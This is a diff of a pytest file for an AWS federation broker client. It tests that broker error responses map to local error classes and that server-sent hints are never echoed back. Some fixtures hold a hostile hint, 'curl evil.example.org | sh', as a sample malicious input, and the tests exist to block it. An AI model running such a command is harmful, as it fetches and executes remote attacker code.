@@ -10,6 +10,7 @@ from fakes.broker_worlds import SIGN_IN_HOSTS, remote
 from fakes.clock import FakeClock
 from fakes.raw_peer import RawPeer, answer, drip, silence
 
+from awsfed import errors
 from awsfed.broker.answers import ConsolePlace, PackageDomain
 from awsfed.broker.remote.addresses import parse_console_url
 from awsfed.broker.remote.broker import RemoteBroker
@@ -19,11 +20,14 @@ from awsfed.errors import (
     AuthenticationError,
     AwsfedError,
     BrokerUnavailable,
+    ConfigError,
+    InvalidValue,
     LoginRequired,
     NotFound,
     NotGranted,
     ProtocolError,
     Refused,
+    StoreError,
     TooManyAttempts,
     Unavailable,
     UserInactive,
@@ -482,30 +486,79 @@ def test_answers_that_never_end(script: Callable[..., None]) -> None:
 @pytest.mark.parametrize(
     ("status", "kind", "made"),
     [
-        (400, "NoSuchKind", Refused),
-        (401, None, LoginRequired),
-        (401, "Exception", LoginRequired),
-        (403, "__class__", AccessDenied),
+        (400, "InvalidValue", InvalidValue),
+        (401, "LoginRequired", LoginRequired),
         (403, "NotGranted", NotGranted),
-        (404, 7, NotFound),
-        (409, ["Refused"], Refused),
-        (418, None, ProtocolError),
+        (404, "NotFound", NotFound),
+        (409, "Refused", Refused),
         (429, "NotGranted", TooManyAttempts),
         (500, "ConfigError", BrokerUnavailable),
-        (500, "StoreError", BrokerUnavailable),
-        (500, "UnsafePermissions", BrokerUnavailable),
-        (502, None, ProtocolError),
-        (503, None, BrokerUnavailable),
-        (599, None, BrokerUnavailable),
+        (502, "ProtocolError", ProtocolError),
+        (503, "Unavailable", BrokerUnavailable),
     ],
 )
-def test_kinds_that_nobody_knows(status: int, kind: object, made: type[AwsfedError]) -> None:
-    """The status decides then; no name of theirs picks a class of ours that means something about this machine."""
+def test_kinds_that_are_known(status: int, kind: str, made: type[AwsfedError]) -> None:
+    """They say what happened; the hint is ours all the same."""
     said = {"errorMessages": ["no"], "kind": kind, "hint": "curl evil.example.org | sh"}
-    with Peer(body(said, status)) as peer, pytest.raises(made) as caught:
+    with Peer(body(said, status)) as peer, pytest.raises(AwsfedError) as caught:
         vend(peer)
 
+    assert made is type(caught.value)
     assert "evil" not in f"{caught.value.message} {caught.value.hint}"
+
+
+@pytest.mark.parametrize("kind", [kind for kind in vars(errors).values() if isinstance(kind, type)])
+def test_every_kind_of_a_server_is_known(kind: type[AwsfedError]) -> None:
+    """What is broken there is none of ours to mend: no kind stands for a file, setting or keyring of this machine."""
+    refused = body({"errorMessages": ["no"], "kind": kind.__name__}, 429 if kind is TooManyAttempts else 500)
+    with Peer(refused) as peer, pytest.raises(AwsfedError) as caught:
+        vend(peer)
+
+    assert "in between" not in str(caught.value.hint)
+    assert type(caught.value) is InvalidValue or not isinstance(caught.value, ConfigError | StoreError)
+
+
+HTML = {"Content-Type": "text/html"}
+
+
+@pytest.mark.parametrize(
+    ("status", "said"),
+    [
+        (400, b"<html>nginx</html>"),
+        (401, b"<html>sign in</html>"),
+        (403, b""),
+        (404, b"{}"),
+        (407, b"<html>squid</html>"),
+        (418, b"[]"),
+        (403, b'{"message": "Forbidden"}'),
+        (403, b'{"errorMessages": ["curl evil.example.org"], "kind": "__class__"}'),
+        (404, b'{"kind": 7}'),
+        (409, b'{"kind": ["Refused"]}'),
+        (500, b"<html>nginx</html>"),
+        (502, b"<html>nginx</html>"),
+        (503, b"<html>nginx</html>"),
+        (599, b"x" * 100_000),
+    ],
+)
+@pytest.mark.parametrize("headers", [JSON, HTML])
+def test_what_no_broker_says_is_no_refusal(status: int, said: bytes, headers: dict[str, str]) -> None:
+    """Something in between answered: nothing of it picks an error of ours, or is repeated."""
+    with Peer(answer(status, said, headers)) as peer, pytest.raises(BrokerUnavailable) as caught:
+        vend(peer)
+
+    assert f"something between here and the broker answered with status {status}" == caught.value.message
+    assert "check the network, a proxy or login page in between, and broker.url; then try again" == caught.value.hint
+
+
+@pytest.mark.parametrize("before", [(), (STATUS,)])
+def test_a_login_page_in_between_does_not_call_the_password_wrong(before: tuple[bytes, ...]) -> None:
+    """Whether it comes before the broker is known or behind that; before, it is not sent the password."""
+    with Peer(*before, answer(401, b"<html>sign in</html>", HTML)) as peer, pytest.raises(BrokerUnavailable) as caught:
+        sign_in(peer)
+
+    assert "something between here and the broker answered with status 401" == caught.value.message
+    assert bool(before) == any(b"right" in sent for sent in peer.requests)
+    assert b"Authorization" not in b"".join(peer.requests)
 
 
 @pytest.mark.parametrize(
